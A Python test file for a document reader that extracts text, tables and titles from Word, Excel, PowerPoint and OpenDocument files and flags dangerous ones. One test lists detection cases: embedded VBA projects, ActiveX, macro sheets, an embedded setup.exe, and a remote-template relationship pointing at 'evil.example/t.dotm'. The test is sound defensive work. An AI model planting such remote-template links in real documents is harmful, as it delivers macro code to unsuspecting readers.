"""What is read out of DOCX, XLSX, presentations and OpenDocument files, and which are not opened."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from typing import Any

import pytest
from docx.oxml import parse_xml

from mailflow.core.document import Condition
from tests.documents.build import opened, with_member, word, workbook, zipped

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def plain(document: Any) -> None:
    document.add_paragraph("text")


def in_order(document: Any) -> None:
    document.add_paragraph("before")
    table = document.add_table(2, 2)
    for cell, shown in zip(
        (c for row in table.rows for c in row.cells), ("Name", "Role", "Ms. Ada Holm", "head"), strict=True
    ):
        cell.text = shown
    document.add_paragraph("after")


def test_paragraphs_and_tables_come_in_order() -> None:
    assert opened(word(in_order), "a.docx").text == "before\nName\tRole\nMs. Ada Holm\thead\nafter"


def test_tables_are_kept_apart_too() -> None:
    assert opened(word(in_order), "a.docx").tables == ((("Name", "Role"), ("Ms. Ada Holm", "head")),)


def with_header(document: Any) -> None:
    document.sections[0].header.paragraphs[0].text = "Embassy of Norway"
    document.add_paragraph("text")


def test_page_headers_are_read() -> None:
    assert opened(word(with_header), "a.docx").text == "Embassy of Norway\ntext"


def with_list(document: Any) -> None:
    document.add_paragraph("Ms. Ada Holm", style="List Bullet")


def test_list_items_are_marked() -> None:
    assert opened(word(with_list), "a.docx").text == "- Ms. Ada Holm"


CHANGED = (
    f'<w:p {W}><w:r><w:t xml:space="preserve">Head: </w:t></w:r><w:del w:id="1"><w:r><w:delText>Mr. Old</w:delText></w:r></w:del>'
    '<w:ins w:id="2"><w:r><w:t>Ms. New</w:t></w:r></w:ins></w:p>'
)
CONTROLLED = f"<w:sdt {W}><w:sdtContent><w:p><w:r><w:t>in a control</w:t></w:r></w:p></w:sdtContent></w:sdt>"


BOXED = f"<w:p {W}><w:r><w:pict><w:txbxContent><w:p><w:r><w:t>in a box</w:t></w:r></w:p></w:txbxContent></w:pict></w:r></w:p>"
ROWS = (
    f"<w:tbl {W}><w:tr><w:tc><w:tcPr><w:vMerge w:val='restart'/></w:tcPr><w:p><w:r><w:t>Norway</w:t></w:r></w:p></w:tc>"
    "<w:sdt><w:sdtContent><w:tc><w:p><w:r><w:t>Ms. Holm</w:t></w:r></w:p></w:tc></w:sdtContent></w:sdt></w:tr>"
    "<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc><w:tc><w:p><w:r><w:t>Mr.</w:t><w:tab/><w:t>Berg</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
)


@pytest.mark.parametrize(
    ("xml", "shown"),
    [
        (CHANGED, "Head: Ms. New"),
        (CONTROLLED, "in a control"),
        (BOXED, "in a box"),
        (ROWS, "Norway\tMs. Holm\n\tMr.\tBerg"),
    ],
)
def test_what_word_shows_is_read(xml: str, shown: str) -> None:
    def write(document: Any) -> None:
        document.element.body.insert(0, parse_xml(xml))

    assert opened(word(write), "a.docx").text.strip() == shown


def paragraph(shown: str, style: str = "Normal", *, bold: bool = False, centred: bool = False) -> Any:
    def write(document: Any) -> None:
        added = document.add_paragraph(style=style)
        added.add_run(shown).bold = bold
        if centred:
            added.alignment = 1

    return write


LONG = paragraph("The delegation wishes to share observations ahead of the Conference. " * 3)


@pytest.mark.parametrize(
    ("writers", "prop", "title"),
    [
        ([paragraph("Victim assistance", "Title"), LONG], "Norway", "Victim assistance"),
        ([paragraph("Victim assistance", "Heading 1"), LONG], "", "Victim assistance"),
        ([paragraph("Victim assistance", bold=True), LONG], "", "Victim assistance"),
        ([paragraph("Victim assistance", centred=True), LONG], "", "Victim assistance"),
        ([paragraph("Working paper submitted by Norway", "Title"), paragraph("Victims", "Heading 1")], "", "Victims"),
        ([paragraph("Wellington, 18 February 2008", bold=True), paragraph("Victims", bold=True), LONG], "", "Victims"),
        ([paragraph("STATEMENT", "Title"), paragraph("by Ms. Ada Holm"), LONG], "", "STATEMENT by Ms. Ada Holm"),
        ([LONG, paragraph("Later heading", bold=True)], "", ""),
        ([LONG], "Victim assistance in practice", "Victim assistance in practice"),
        ([LONG], "Document1", ""),
        ([LONG], "Norway", ""),
    ],
)
def test_the_title_goes_by_style_then_by_look_then_by_property(writers: list[Any], prop: str, title: str) -> None:
    def write(document: Any) -> None:
        for writer in writers:
            writer(document)
        document.core_properties.title = prop

    assert opened(word(write), "a.docx").title == title


@pytest.mark.parametrize(
    ("member", "content"),
    [
        ("word/vbaProject.bin", b"x"),
        ("word/VBAPROJECT.BIN", b"x"),
        ("word/activeX/activeX1.xml", b"x"),
        ("xl/macrosheets/sheet1.xml", b"x"),
        ("Basic/Standard/Module1.xml", b"x"),
        ("word/embeddings/setup.exe", b"x"),
        (
            "word/_rels/settings.xml.rels",
            b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
            b'TargetMode="External"/></Relationships>',
        ),
    ],
)
def test_a_document_with_a_program_in_it_is_dangerous(member: str, content: bytes) -> None:
    assert opened(with_member(word(plain), member, content), "a.docx").condition is Condition.DANGEROUS


@pytest.mark.parametrize("name", ["a.docm", "a.dotm", "A.DOCM"])
def test_a_document_named_as_one_with_macros_is_dangerous(name: str) -> None:
    assert opened(word(plain), name).condition is Condition.DANGEROUS


def test_a_dangerous_document_gives_no_text() -> None:
    assert opened(with_member(word(plain), "word/vbaProject.bin", b"x"), "a.docx").text == ""


def test_the_note_says_that_there_are_macros() -> None:
    assert opened(with_member(word(plain), "word/vbaProject.bin", b"x"), "a.docx").note == "it carries macros"


def test_footnotes_are_read() -> None:
    notes = f"<w:footnotes {W}><w:footnote><w:p><w:r><w:t>a note</w:t></w:r></w:p></w:footnote></w:footnotes>".encode()
    relation = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes" '
    relation += b'Target="footnotes.xml"/></Relationships>'
    content = word(plain)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        relations = archive.read("word/_rels/document.xml.rels").replace(b"</Relationships>", relation)
    content = with_member(with_member(content, "word/footnotes.xml", notes), "word/_rels/document.xml.rels", relations)
    assert opened(content, "a.docx").text == "text\na note"


def test_rows_of_a_giant_table_are_left_and_told() -> None:
    document = opened(word(in_order), "a.docx", cells=3)
    assert (document.tables, document.note) == (((("Name", "Role"),),), "only the first rows of its tables were read")


def test_the_title_of_a_document_with_macros_is_told() -> None:
    content = with_member(word(paragraph("Clearance in practice")), "word/vbaProject.bin", b"x")
    assert opened(content, "a.docm").title == "Clearance in practice"


SHEET = [["Action", "Status", "Since"], [63, "done", date(2011, 5, 2)], [64.5, None, True]]


def test_cells_are_read_as_a_person_sees_them() -> None:
    assert opened(workbook(SHEET), "a.xlsx").tables == (
        (("Action", "Status", "Since"), ("63", "done", "2011-05-02"), ("64.5", "", "TRUE")),
    )


def test_rows_of_a_sheet_are_lines() -> None:
    assert opened(workbook(SHEET), "a.xlsx").text.split("\n")[1] == "63\tdone\t2011-05-02"


def test_a_single_cell_above_a_table_is_its_title() -> None:
    assert opened(workbook([["Delegation of Norway to Oslo"], ["Name", "Role"], ["Holm", "head"]]), "a.xlsx").title == (
        "Delegation of Norway to Oslo"
    )


def test_a_row_of_column_names_is_no_title() -> None:
    assert opened(workbook(SHEET), "a.xlsx").title == ""


def test_a_sheet_of_two_cells_in_far_corners_is_not_built() -> None:
    far = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
    far += b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
    assert (
        opened(with_member(workbook(SHEET), "xl/worksheets/sheet1.xml", far), "a.xlsx").condition
        is Condition.UNREADABLE
    )


def test_rows_over_the_limit_are_left_and_told() -> None:
    document = opened(workbook([[i, "x"] for i in range(1000)]), "a.xlsx", cells=100)
    assert (len(document.tables[0]), document.note) == (50, "only the first rows were read")


SLIDE = (
    '<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/'
    'drawingml/2006/main"><p:sp><p:nvSpPr><p:nvPr><p:ph type="ctrTitle"/></p:nvPr></p:nvSpPr><p:txBody><a:p><a:r><a:t>Clearance '
    "in practice</a:t></a:r></a:p></p:txBody></p:sp></p:sld>"
)


def test_slides_are_read() -> None:
    types = b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    document = opened(zipped({"[Content_Types].xml": types, "ppt/slides/slide1.xml": SLIDE.encode()}), "a.pptx")
    assert (document.title, document.text) == ("Clearance in practice", "Clearance in practice")


ODT = (
    '<office:document-content xmlns:office="o" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><text:h>Clearance in practice</text:h><text:p>One<text:s/>two</text:p>'
    "<table:table><table:table-row><table:table-cell><text:p>Holm</text:p></table:table-cell><table:table-cell><text:p>head</text:p>"
    "</table:table-cell></table:table-row></table:table></office:document-content>"
)


SHEET_XML = (
    '<o xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0">'
    "<table:table><table:table-row><table:table-cell><text:p>a<text:tab/>b<text:line-break/>c</text:p></table:table-cell>"
    '<table:table-cell table:number-columns-repeated="16000"/></table:table-row></table:table></o>'
)


def test_opendocument_sheets_are_read_without_their_empty_edge() -> None:
    mimetype = b"application/vnd.oasis.opendocument.spreadsheet"
    document = opened(zipped({"mimetype": mimetype, "content.xml": SHEET_XML.encode()}), "a.ods")
    assert (document.kind, document.tables) == ("xlsx", ((("a\tb\nc",),),))


def test_the_property_of_an_opendocument_file_is_its_title_where_there_is_no_heading() -> None:
    meta = b'<m xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Clearance in practice</dc:title></m>'
    members = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<o/>", "meta.xml": meta}
    assert opened(zipped(members), "a.odt").title == "Clearance in practice"


def test_opendocument_text_is_read() -> None:
    mimetype = b"application/vnd.oasis.opendocument.text"
    document = opened(zipped({"mimetype": mimetype, "content.xml": ODT.encode()}), "a.odt")
    assert (document.kind, document.title, document.text) == (
        "docx",
        "Clearance in practice",
        "Clearance in practice\nOne two\nHolm\thead",
    )
